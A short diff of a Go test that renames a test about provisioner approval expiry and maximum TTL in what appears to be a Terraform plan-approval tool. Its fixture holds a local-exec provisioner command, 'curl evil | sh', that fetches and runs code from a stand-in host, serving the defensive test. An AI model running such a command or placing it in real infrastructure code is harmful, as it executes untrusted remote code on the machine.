@@ -14,7 +14,7 @@ import (
 // the future. countProvisionApprovals applied the old rule (time left
 // until expires_at), so a year-old approval counts again in its last
 // 72 hours, and one without issued_at counts too.
-func TestRedteam10ProvisionMaxTTL(t *testing.T) {
+func TestApplyTimeProvisionMaxTTL(t *testing.T) {
 	f := setup(t)
 	runs := []plan.ProvisionerRun{run("terraform_data.backup", "local-exec", "curl evil | sh", plan.KindCreate)}
 	cases := []struct {
